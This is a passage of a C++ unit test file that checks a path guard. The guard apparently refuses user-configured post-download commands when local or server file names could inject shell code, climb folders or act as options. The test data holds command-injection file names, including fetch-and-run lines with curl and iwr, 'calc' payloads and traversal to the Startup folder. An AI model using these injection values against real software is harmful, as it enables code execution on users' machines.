        {pwsh, "-cwa \"& ($args[0])\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\x.hta", "/r", R::CommandName},
        {pwsh, "-cwa \"ii ${args}\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\x.bat", "/r", R::CommandName},
        {ps, "-c \"$p='%LOCAL_FILE_PATH%';&ii $p\"", "C:\\in\\x.bat", "/r", R::ScriptIndirection},
        {pwsh, "-cwa \"cmd /c type $args[0]\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\a&calc&.txt", "/r", R::ShellOperator},
        {pwsh, "\x96" "Command \"Get-Item '%LOCAL_FILE_PATH%'\"", "C:\\in\\x';calc;'.txt", "/r", R::ScriptQuote},
        {ps, "-Command \"Write-Output \\\"$(Split-Path '%LOCAL_FILE_PATH%' -Leaf)\\\"\"",
         "C:\\in\\x';calc;Split-Path '.txt", "/r", R::ScriptQuote},
        {ps, "-Command \"Remove-Item '%LOCAL_FILE_PATH%'\"", "C:\\in\\report[0-9].txt", "/r", R::ScriptWildcard},
        {ps, "-Command \"Remove-Item '%LOCAL_FILE_PATH%'\"", "C:\\in\\report]1.txt", "/r", R::ScriptWildcard},
        {ps, "-Command \"Get-FileHash -LiteralPath '%LOCAL_FILE_PATH%'\"", "C:\\in\\Photo [1].jpg", "/r", R::None},
        {ps, "-c \"& 'C:\\x.exe' '%REMOTE_FILE_PATH%' '%LOCAL_FILE_PATH%'\"", "C:\\in\\q -o y", "/pub/a b\\", R::BackslashBeforeQuote},
        {ps, "-c \"& 'C:\\x.exe' '%LOCAL_FILE_PATH%\\..\\'\"", "C:\\in\\a b", "/r", R::BackslashBeforeQuote},
        {ps, "-c \"echo 1;&('%LOCAL_FILE_PATH%')\"", "C:\\in\\x.hta", "/r", R::CommandName},
        {ps, "-c \"Start-Process -Wait '%LOCAL_FILE_PATH%'\"", "C:\\in\\x.hta", "/r", R::CommandName},
        {ps, "-c \"ii '%LOCAL_FILE_PATH%'\"", "C:\\in\\x.hta", "/r", R::CommandName},
        {ps, "-c \". '%LOCAL_FILE_PATH%'\"", "C:\\in\\x.ps1", "/r", R::CommandName},
        {ps, "-c \"Saps '%LOCAL_FILE_PATH%'\"", "C:\\in\\x.hta", "/r", R::CommandName},
        {ps, "-c &%LOCAL_FILE_PATH%", "C:\\in\\x.hta", "/r", R::CommandName},
        // What a redirection leaves of a command; what wsl -e, explorer, rundll32 and wt start.
        {cmd, redirected.c_str(), "C:\\in\\x;iex (iwr e).Content", "/r", R::ScriptUnquoted},
        {cmd, "/v:on /c C:\\Tools\\x.exe !TREVANEL_LOCAL_FILE_PATH!", "C:\\in\\a -o evil.txt", "/r", R::BlankUnquoted},
        {cmd, "/c C:\\Tools\\x.exe <%TREVANEL_LOCAL_FILE_PATH%", "C:\\in\\a -o evil.txt", "/r", R::BlankUnquoted},
        {"C:\\Windows\\System32\\wsl.exe", "-e tcsh -c \"md5sum /mnt/d/m%REMOTE_FILE_PATH%\"", "C:\\a", "/x;curl e|sh", R::InterpreterCode},
        {"C:\\Windows\\System32\\wsl.exe", "--exec /usr/bin/env sh \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Git\\bin\\bash.exe", "-c 'md5sum \"%LOCAL_FILE_PATH%\" >> /d/sums.txt'", "C:\\in\\x$(calc)", "/r", R::InterpreterCode},
        {"C:\\Windows\\explorer.exe", "\"%LOCAL_FILE_PATH%\"", "C:\\in\\x.hta", "/r", R::CommandName},
        {"C:\\Windows\\explorer.exe", "/select,\"%LOCAL_FILE_PATH%\"", "C:\\in\\a b.txt", "/r", R::None},
        {"C:\\Windows\\explorer.exe", "%REMOTE_FILE_PATH%", "C:\\a", "/pub/x.hta", R::CommandName},
        {"C:\\Windows\\System32\\rundll32.exe", "url.dll,FileProtocolHandler \"%LOCAL_FILE_PATH%\"", "C:\\in\\x.hta", "/r", R::InterpreterCode},
        {"C:\\Users\\u\\AppData\\Local\\Microsoft\\WindowsApps\\wt.exe", "notepad \"%LOCAL_FILE_PATH%\"", "C:\\in\\x;calc", "/r", R::InterpreterCode},
        // The user's own rooted folder before a path is the user's, whatever a folder may hold;
        // the same characters elsewhere in the argument still read as code.
        {cmd, "/c copy /y \"%LOCAL_FILE_PATH%\" \"D:\\Photos & Videos\\Mirror%REMOTE_FILE_PATH%\"", "C:\\in\\a.txt", "/pub/a.txt", R::None},
        {"C:\\Tools\\curl.exe", "-o \"C:\\Users\\O'Brien\\%REMOTE_FILE_PATH%\"", "C:\\a", "/pub/a.txt", R::None},
        {program, "\"\\\\nas\\backup$\\%REMOTE_FILE_PATH%.7z\"", "C:\\a", "/pub/a.txt", R::None},
        {program, "--dest=\"D:\\\xdc" "bersicht\\100% fertig\\%REMOTE_FILE_PATH%\"", "C:\\a", "/pub/a.txt", R::None},
        {program, "-oD:\\{x}\\%LOCAL_FILE_PATH%", "C:\\a", "/r", R::None},
        {program, "/out:\"D:\\Photos & Videos\\%REMOTE_FILE_PATH%\"", "C:\\a", "/pub/a.txt", R::None},
        // A batch file behind a target that cannot be seen splits an unquoted path at =.
        {shortcut, "scan %LOCAL_FILE_PATH%", "C:\\in\\a=b.txt", "/r", R::Delimiter},
        // PowerShell runs the script -File names, and what a variable names after & or .
        {ps, "-File \"%LOCAL_FILE_PATH%\"", "C:\\in\\update.ps1", "/r", R::CommandName},
        {ps, "-c \"$p='%LOCAL_FILE_PATH%'; &$p\"", "C:\\in\\run.hta", "/r", R::ScriptIndirection},
        {ps, "-c \"cmd /c copy '%LOCAL_FILE_PATH%' D:\\b\"", "C:\\in\\a&calc&.txt", "/r", R::ShellOperator},
        {program, "x=$(D:\\a\\%LOCAL_FILE_PATH%)", "C:\\a", "/r", R::CodeShape},
        {program, "\"D:\\a\\%LOCAL_FILE_PATH%;rm\"", "C:\\a", "/r", R::CodeShape},
        {program, "\"D:\\a|b\\%LOCAL_FILE_PATH%\"", "C:\\a", "/r", R::CodeShape},
    };
    for (const Row& row : rows) {
        const ParameterLine line = BuildParameterLine(row.exe, row.parameters, row.local, row.remote);
        EXPECT_EQ(row.refusal, line.refusal)
            << row.exe << " " << row.parameters << " <- " << row.local << " | " << row.remote
            << ": " << DescribeRefusal(line.refusal);
    }
    // A batch file gets in quotes what cmd.exe would act on or split at.
    EXPECT_EQ("\"C:\\in\\Q&A, b.txt\" /r", BuildParameterLine(batch, "%LOCAL_FILE_PATH% /r", "C:\\in\\Q&A, b.txt", "").text);
    EXPECT_EQ("\"C:\\in\\a=b.txt\"", BuildParameterLine(batch, bare, "C:\\in\\a=b.txt", "").text);
}

// A ? stands for a character lost in the conversion to the ANSI code page; with * it would be a
// wildcard for other files. Every tweak gets the local path in its environment, so none starts.
TEST(PathGuard, LocalPathWithWildcardsStartsNoTweakOfAnyKind) {
    using V = TweakVerdict;
    struct Row {
        const char* exe;
        const char* parameters;
        const char* filter;
        const char* local;
        const char* remote;
        V verdict;
    } rows[] = {
        {"C:\\Tools\\record.exe", "", "", "C:\\in\\?.txt", "/pub/\xe6\x97\xa5.txt", V::WildcardPath},
        {"C:\\Tools\\record.exe", "\"%REMOTE_FILE_PATH%\"", "", "C:\\in\\a*.txt", "/pub/a.txt", V::WildcardPath},
        {"C:\\Tools\\record.bat", "\"%LOCAL_FILE_PATH%\"", "", "C:\\in\\??.txt", "/pub/ab.txt", V::WildcardPath},
        {"C:\\Tools\\record.bat", "\"%LOCAL_FILE_PATH%\"", "", "C:\\in\\a\"?.txt", "/pub/a.txt", V::WildcardPath},
        {"C:\\Tools\\record.exe", "", "", "\\\\?\\C:\\in\\?.txt", "/pub/a.txt", V::WildcardPath},
        {"C:\\Tools\\record.exe", "", "", "C:\\in\\\\?\\a.txt", "/pub/a.txt", V::WildcardPath},
        // The filters still see the name as it came.
        {"C:\\Tools\\record.exe", "", "*.pdf", "C:\\in\\?.txt", "/pub/a.txt", V::Filter},
        {"C:\\Tools\\record.exe", "", "?.txt", "C:\\in\\?.txt", "/pub/a.txt", V::WildcardPath},
        // The prefixes are no wildcards; the server's names keep every character.
        {"C:\\Tools\\record.exe", "\"%LOCAL_FILE_PATH%\"", "", "\\\\?\\C:\\in\\a.txt", "/pub/a.txt", V::Applies},
        {"C:\\Tools\\record.exe", "\"%LOCAL_FILE_PATH%\"", "", "\\\\.\\C:\\in\\a.txt", "/pub/a.txt", V::Applies},
        {"C:\\Tools\\record.exe", "\"%LOCAL_FILE_PATH%\"", "", "C:\\in\\a.txt", "/pub/what?*.txt", V::Applies},
        // A device is no file either; names that only begin like one are ordinary.
        {"C:\\Tools\\record.bat", "\"%LOCAL_FILE_PATH%\"", "", "C:\\in\\nul.txt", "/pub/nul.txt", V::DevicePath},
        {"C:\\Tools\\record.exe", "", "", "C:\\in\\Com1 .tar.gz", "/pub/a", V::DevicePath},
        {"C:\\Tools\\record.exe", "", "", "C:\\in/conin$", "/pub/a", V::DevicePath},
        {"C:\\Tools\\record.exe", "", "", "C:\\in\\LPT\xb9.txt", "/pub/a", V::DevicePath},
        {"C:\\Tools\\record.exe", "", "", "C:aux. ", "/pub/a", V::DevicePath},
        {"C:\\Tools\\record.exe", "", "", "C:\\in\\CON:a.txt", "/pub/a", V::DevicePath},
        {"C:\\Tools\\record.exe", "", "", "C:\\in\\CONFIG.txt", "/pub/a", V::Applies},
        {"C:\\Tools\\record.exe", "", "", "C:\\in\\com10.txt", "/pub/a", V::Applies},
        {"C:\\Tools\\record.exe", "", "", "C:\\NUL\\a.txt", "/pub/a", V::Applies},
    };
    MemoryFileSystem files;
    StandIns standIns{files};
    for (const Row& row : rows) {
        CTweakInfo tweak;
        tweak.m_strExe = row.exe;
        InstallProgram(row.exe);
        tweak.m_strParameters = row.parameters;
        tweak.m_nApplyTo = TWEAK_APPLY_DOWNLOAD;
        tweak.ParseFilters(row.filter);
        EXPECT_STREQ(VerdictName(row.verdict),
                     VerdictName(DecideTweak(tweak, 0, row.local, row.remote).verdict))
            << row.exe << " " << row.parameters << " <- " << row.local << " | " << row.remote;
    }
}

// The server's part of a path is judged as a path, for every program and wherever the line puts
// it: it must stay below the user's folder, name a file, and not read as an option.
TEST(PathGuard, ServerPathStaysAFileBelowTheUsersFolder) {
    const char* const mirror = "/c copy /y \"%LOCAL_FILE_PATH%\" \"C:\\Users\\Ann\\Mirror%REMOTE_FILE_PATH%\"";
    const char* const cmd = "C:\\Windows\\System32\\cmd.exe";
    const char* const tool = "C:\\Tools\\rclone.exe";
    struct Row {
        const char* exe;
        const char* parameters;
        const char* remote;
        R refusal;
    } rows[] = {
        {cmd, mirror, "/../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/evil.bat", R::ServerPathClimb},
        {tool, "x \"%REMOTE_FILE_PATH%\"", "\\\\attacker\\share\\loot.txt", R::ServerPathOption},
        {tool, "x \"%REMOTE_FILE_PATH%\"", "/\\attacker\\share\\loot.txt", R::ServerPathOption},
        {tool, "-File C:\\s.ps1 \"%REMOTE_FILE_PATH%\"", "\x96" "DeleteSource", R::ServerPathOption},
        {tool, "copy x \"D:\\M%REMOTE_FILE_PATH%\"", "/pub\\..\\..\\evil.dll", R::ServerPathClimb},
        {tool, "copy x D:\\M%REMOTE_FILE_PATH%", "/pub/. . /x", R::ServerPathClimb},
        {tool, "copy x D:\\M%REMOTE_FILE_PATH%", "/pub/.", R::ServerPathClimb},
        {cmd, mirror, "/pub/x.txt:hidden", R::ServerPathColon},
        {tool, "-o \"%REMOTE_FILE_PATH%\"", "C:/Windows/win.ini", R::ServerPathColon},
        {tool, "\"D:\\M%REMOTE_FILE_PATH%\"", "/pub/COM1", R::ServerPathDevice},
        {tool, "\"D:\\M%REMOTE_FILE_PATH%\"", "/nul.txt/a", R::ServerPathDevice},
        {cmd, "/c del \"D:\\M%REMOTE_FILE_PATH%\"", "/pub/*", R::ServerPathWildcard},
        {tool, "\"%REMOTE_FILE_PATH%\"", "/pub/a?.txt", R::ServerPathWildcard},
        {tool, "\"%REMOTE_FILE_PATH%\"", "/pub/a\tb.txt", R::ServerPathControl},
        {"C:\\Scripts\\log.ps1", "-File C:\\s.ps1 %REMOTE_FILE_PATH%", "-Local:C:\\Windows\\win.ini", R::ServerPathOption},
        {"C:\\Windows\\System32\\cscript.exe", "C:\\s.vbs %REMOTE_FILE_PATH%", "//X", R::ServerPathOption},
        // Every road to the value: cmd.exe's variable, in any letter case.
        {cmd, "/c copy x \"D:\\M%trevanel_remote_file_path%\"", "/../x", R::ServerPathClimb},
        // Ordinary names of the server: dots inside names, hidden files, a - inside.
        {cmd, mirror, "/pub/v1.2/a..b.txt", R::None},
        {cmd, mirror, "/pub/.config/-notes-.txt", R::None},
        {cmd, mirror, "/pub/CONFIG/com10 [1].txt", R::None},
        // A line without the server's path does not depend on it.
        {tool, "\"%LOCAL_FILE_PATH%\"", "/../x:y", R::None},
    };
    for (const Row& row : rows) {
        const ParameterLine line = BuildParameterLine(row.exe, row.parameters, "C:\\in\\a.txt", row.remote);
        EXPECT_EQ(row.refusal, line.refusal) << row.parameters << " | " << row.remote << ": " << DescribeRefusal(line.refusal);
    }
}

// A shell under a short name, a renamed copy of one, or a batch file handing its line on to one is
// judged as that shell.
TEST(PathGuard, AProgramIsJudgedByTheNamesItGoesBy) {
    MemoryFileSystem files;
    StandIns standIns{files};
    files.SetOtherNames("C:\\PROGRA~1\\POWERS~1.EXE", {"C:\\Program Files\\PowerShell\\7\\pwsh.exe"});
    files.SetOtherNames("C:\\Tools\\shell.exe", {"Cmd.Exe"});
    files.SetOtherNames("C:\\Tools\\viewer.exe", {"Viewer.EXE"});
    EXPECT_EQ(R::ScriptQuote, BuildParameterLine("C:\\PROGRA~1\\POWERS~1.EXE", "-c \"Get-Item '%LOCAL_FILE_PATH%'\"",
                                                 "C:\\in\\a';calc;'.txt", "/r").refusal);
    EXPECT_EQ(R::ShellOperator, BuildParameterLine("C:\\Tools\\shell.exe", "/c copy %LOCAL_FILE_PATH% D:\\b",
                                                   "C:\\in\\a&calc&.txt", "/r").refusal);
    EXPECT_EQ(R::None, BuildParameterLine("\"C:\\Tools\\viewer.exe\"", "/c copy %LOCAL_FILE_PATH% D:\\b",
                                          "C:\\in\\a&calc&.txt", "/r").refusal);
    const std::string shim = "@echo off\r\nrem started by the package manager\r\n@\"%~dp0pwsh.exe\" %*\r\n";
    files.Put("C:\\Tools\\pwsh-preview.cmd", std::vector<uint8_t>(shim.begin(), shim.end()));
    files.Put("C:\\Tools\\plain.cmd", {});
    EXPECT_EQ(R::CommandName, BuildParameterLine("C:\\Tools\\pwsh-preview.cmd", "-c %LOCAL_FILE_PATH%", "C:\\in\\a.ps1", "/r").refusal);
    EXPECT_EQ(R::None, BuildParameterLine("C:\\Tools\\plain.cmd", "-c %LOCAL_FILE_PATH%", "C:\\in\\a.ps1", "/r").refusal);
    // PowerShell hands a path to a command named without its extension: what the search finds.
    files.SetEnvironmentValue("PATH", "C:\\Tools");
    files.Put("C:\\Tools\\code.cmd", {});
    EXPECT_EQ(R::ShellOperator, BuildParameterLine("powershell.exe", "-c \"code '%LOCAL_FILE_PATH%'\"",
                                                   "C:\\in\\a&calc&.txt", "/r").refusal);
}

// A program kept where downloads land starts there, where the server's DLL of its name would load.
TEST(PathGuard, ProgramBesideTheTransferredFileStartsNot) {
    MemoryFileSystem files;
    StandIns standIns{files};
    files.Put("C:\\Users\\Ann\\Downloads\\convert.exe", {});
    files.Put("C:\\Users\\ann\\Downloads\\convert.exe", {});
    CTweakInfo tweak;
    tweak.m_strExe = "C:\\Users\\ann\\Downloads\\convert.exe";
    tweak.m_strParameters = "\"%LOCAL_FILE_PATH%\"";
    tweak.m_nApplyTo = TWEAK_APPLY_DOWNLOAD;
    const TweakDecision beside = DecideTweak(tweak, 0, "C:\\Users\\Ann\\Downloads\\a.txt", "/a.txt");
    EXPECT_STREQ("unsafe-path", VerdictName(beside.verdict));
    EXPECT_EQ(R::ProgramBesideFile, beside.line.refusal);
    EXPECT_STREQ("applies", VerdictName(DecideTweak(tweak, 0, "C:\\Users\\Ann\\Downloads\\sub\\a.txt", "/a").verdict));
    // A shortcut elsewhere to a program there starts it there all the same.
    MemoryShortcutReader shortcuts;
    StandIns shortcutStandIn{shortcuts};
    shortcuts.Put("C:\\Links\\Convert.lnk", {"C:\\Users\\Ann\\Downloads\\convert.exe", ""});
    files.Put("C:\\Links\\Convert.lnk", {});
    tweak.m_strExe = "C:\\Links\\Convert.lnk";
    EXPECT_EQ(R::ProgramBesideFile, DecideTweak(tweak, 0, "C:\\Users\\Ann\\Downloads\\a.txt", "/a.txt").line.refusal);
}

}  // namespace

namespace {

// A program named without a folder starts by the full path of what the system folders, the
// absolute folders of PATH and the registered application paths hold, never from the current
// directory; one found nowhere does not start.
TEST(ProgramSearch, BareNamesStartFromTheSearchedFoldersOnly) {
    MemoryFileSystem files;
    MemoryRegistry registry;
    StandIns standIns{files, registry};
    for (const char* file : {"C:\\Windows\\system32\\xcopy.exe", "C:\\Windows\\notepad.exe", "C:\\Tools\\tool.bat",
                             "C:\\Tools\\tool.exe", "C:\\Other\\late.cmd", "D:\\Apps\\app.exe", "bin\\rel.exe",
                             "C:\\Windows\\system32\\cmd.exe", "C:\\Tools\\plain", "D:\\Programs\\Exp\\exp.exe"}) {
        files.Put(file, {});
    }
    files.SetEnvironmentValue("PATH", "bin;\"C:\\Tools\\\";;C:\\Other");
    WriteRegString(HKEY_LOCAL_MACHINE, "Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\app.exe", "",
                   "\"D:\\Apps\\app.exe\"");
    WriteRegString(HKEY_LOCAL_MACHINE, "Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\relapp.exe", "",
                   "bin\\rel.exe");
    // Installers write paths with variables as REG_EXPAND_SZ.
    files.SetEnvironmentValue("ProgramFiles", "D:\\Programs");
    HKEY key = nullptr;
    const std::string expandable = "%ProgramFiles%\\Exp\\exp.exe";
    ASSERT_EQ(ERROR_SUCCESS, registry.CreateKey(HKEY_CURRENT_USER,
                                                "Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\exp.exe", &key));
    registry.SetValue(key, "", REG_EXPAND_SZ, reinterpret_cast<const uint8_t*>(expandable.c_str()),
                      static_cast<uint32_t>(expandable.size() + 1));
    registry.CloseKey(key);
    struct Row {
        const char* exe;
        const char* file;
        bool found;
    } rows[] = {
        {"xcopy", "C:\\Windows\\system32\\xcopy.exe", true},
        {"\"xcopy\"", "C:\\Windows\\system32\\xcopy.exe", true},
        {"notepad.exe", "C:\\Windows\\notepad.exe", true},
        {"tool", "C:\\Tools\\tool.exe", true},
        {"tool.bat", "C:\\Tools\\tool.bat", true},
        {"late", "C:\\Other\\late.cmd", true},
        {"app", "D:\\Apps\\app.exe", true},
        {"rel", "rel", false},
        {"relapp", "relapp", false},
        {"planted.exe", "planted.exe", false},
        {".\\xcopy", ".\\xcopy", false},
        // A full path that names no file (a typo) starts nothing either.
        {"C:\\Tools\\gone.exe", "C:\\Tools\\gone.exe", false},
        {"exp", "D:\\Programs\\Exp\\exp.exe", true},
        // A folder and no extension: completed as the shell completes it, so that what starts is judged.
        {"C:\\Windows\\system32\\cmd", "C:\\Windows\\system32\\cmd.exe", true},
        {"\"C:\\Tools\\tool\"", "C:\\Tools\\tool.exe", true},
        {"C:\\Tools\\plain", "C:\\Tools\\plain", true},
        {"C:\\Tools\\gone", "C:\\Tools\\gone", false},
    };
    for (const Row& row : rows) {
        CTweakInfo tweak;
        tweak.m_strExe = row.exe;
        tweak.m_nApplyTo = TWEAK_APPLY_DOWNLOAD;
        const TweakDecision decision = DecideTweak(tweak, 0, "C:\\in\\a.txt", "/a.txt");
        EXPECT_EQ(row.file, decision.program.file) << row.exe;
        EXPECT_STREQ(row.found ? "applies" : "program-not-found", VerdictName(decision.verdict)) << row.exe;
    }
    EXPECT_EQ("the program file does not exist: \"C:\\Tools\\gone.exe\"", DescribeProgramNotFound("\"C:\\Tools\\gone.exe\""));
    // A tweak that would not start is not searched for (PATH may hold network folders); explain
    // still shows where it would start from.
    CTweakInfo disabled;
    disabled.m_strExe = "xcopy";
    disabled.m_bEnabled = false;
    EXPECT_EQ("xcopy", DecideTweak(disabled, 0, "C:\\in\\a.txt", "/a.txt").program.file);
    EXPECT_EQ("C:\\Windows\\system32\\xcopy.exe", DecideTweakInFull(disabled, 0, "C:\\in\\a.txt", "/a.txt").program.file);
}

}  // namespace
